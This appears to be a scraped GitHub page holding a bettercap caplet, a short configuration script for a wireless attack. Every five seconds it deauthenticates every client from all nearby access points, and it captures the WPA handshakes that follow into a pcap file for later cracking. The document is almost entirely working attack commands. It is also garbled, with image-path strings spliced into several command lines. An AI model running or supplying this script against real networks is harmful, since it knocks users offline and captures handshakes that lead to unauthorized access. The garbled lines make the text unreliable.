Skip to content
Switch branches/tags
Go to file
Cannot retrieve contributors at this time
# More info about this caplet:
set $ {bold}😈 » {reset}
# make sure wlan0 is in monitor mode
# ref:
# every 5 seconds:
# - clear the screen
# - show the list of nearby access points
# - deauth every client from each one of them
set ticker.period 5
set ticker.commands clear;; wifi.deauth ff:ff:ff:ff:ff:ff
# sniff EAPOL frames ( WPA handshakes ) and save them to a pcap file.
set net.sniff.verbose trueset net.sniff.filter etherproto 0x888e
set net.sniff.output wpa.pcap
# uncomment to only hop on these channels:
#1,2,3
wifi.recon on
ticker on
net.sniff on
# we'll see lots of probes after each deauth, just skip the noise ...
events.ignorewifi.client.probe
# start fresh